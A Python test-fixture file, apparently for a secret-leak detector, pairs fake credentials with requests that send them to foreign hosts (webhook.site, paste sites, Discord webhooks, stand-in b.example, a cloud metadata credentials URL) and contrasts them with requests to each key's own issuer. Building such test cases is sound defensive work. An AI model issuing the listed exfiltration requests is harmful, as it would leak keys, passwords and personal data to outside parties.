"""Requests that carry keys: to hosts that did not give them out, and to their own."""

AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2" * 9
SLACK = "xoxb-" + "123456789012-abc"
STRIPE = "sk_" + "live_" + "a1B2" * 6
BLOCK = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n"

AWAY: tuple[tuple[str, str, object], ...] = (
    ("POST", "https://hooks.b.example/in", {"key": AWS}),
    ("POST", "https://b.example/log", {"lines": [{"text": f"found {GITHUB} here"}]}),
    ("PUT", "https://paste.example/x", f"token={SLACK}"),
    ("GET", f"https://b.example/c?d={STRIPE}", None),
    ("POST", "https://api.github.com/gists", {"files": {"id": {"content": BLOCK}}}),
    ("POST", "https://[b.example/", {"key": AWS}),
    ("POST", "https://amazonaws.com.b.example/", {"key": AWS}),
    ("POST", "https://hooks.b.example/in", {"AWS_SECRET_ACCESS_KEY": "a1B2/" * 8}),
    (
        "POST",
        "https://b.example/in",
        {"dump": [{"name": "DB_PASSWORD", "value": "hunter2hunter2"}]},
    ),
    ("POST", "https://b.example/in", "PGHOST=db&PG_PASSWORD=hunter2hunter2"),
    ("GET", "https://b.example/c?STRIPE_SECRET_KEY=hunter2hunter2", None),
    ("POST", "https://webhook.site/secrets", {"JWT_SIGNING_KEY": "hunter2hunter2"}),
    ("POST", "https://discord.com/api/webhooks/7/x", {"content": "REDIS_PASSWORD=s3cr3t-Word"}),
    ("POST", "https://slack.com/api/chat.postMessage", {"text": "password: s3cr3t-Word"}),
    ("POST", "https://b.example/in", {"data": "OPENAI_API_KEY=a1B2c3D4e5F6"}),
    ("POST", "https://b.example/in", "A_TOKEN=a1B2c3D4e5F6\nDB_PASSWORD=a1B2c3D4e5F6"),
    ("POST", "https://webhook.site/7", {"members": [{"name": "Ann", "ssn": "000-00-0000"}]}),
    ("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web", None),
)
HOME: tuple[tuple[str, str, object], ...] = (
    ("POST", "https://sts.amazonaws.com/", {"AccessKeyId": AWS}),
    ("POST", "https://api.github.com/applications/7/token", {"access_token": GITHUB}),
    ("POST", "https://slack.com/api/auth.test", {"token": SLACK}),
    ("GET", "https://maps.googleapis.com/maps/api/geocode/json?key=AIza" + "a1B2" * 9, None),
    ("POST", "http://localhost:8200/v1/secret/data/ci", {"data": {"key": AWS}}),
    ("POST", "https://b.example/log", {"key": "AKIA-short", "note": "no key at all"}),
    ("POST", "https://b.example/in", {"key": "sk_test_" + "a1B2" * 6}),
    ("POST", "https://auth.b.example/login", {"user": "ann", "password": "hunter2hunter2"}),
    ("POST", "https://auth.b.example/login", "user=ann&password=hunter2hunter2"),
    ("POST", "https://api.b.example/apps/7/config-vars", {"DB_PASSWORD": "hunter2hunter2"}),
    ("POST", "https://api.stripe.com/v1/ping", {"STRIPE_API_KEY": "hunter2hunter2"}),
    ("POST", "http://localhost:8080/x", {"DB_PASSWORD": "hunter2hunter2"}),
    ("POST", "https://b.example/in", {"DB_PASSWORD": "${DB_PASSWORD}", "MAX_TOKENS": "40000000"}),
    ("POST", "https://slack.com/api/chat.postMessage", {"text": "I reset my password today"}),
    ("PUT", "https://b.example/apps/7/env", {"data": "DB_PASSWORD=a1B2c3D4e5F6"}),
    ("PUT", "https://b.example/p/7", {"content": "const TOKEN = process.env.DEPLOY_TOKEN"}),
    ("POST", "https://b.example/p", {"body": "set API_TOKEN=your-own-token-here"}),
    ("POST", "https://transfer.b.example/in", {"iban": "DE02 1203 0000 0000 2020 51"}),
    ("POST", "https://webhook.site/7", {"event": "build", "status": "green"}),
    ("GET", "http://169.254.169.254/latest/meta-data/instance-id", None),
)
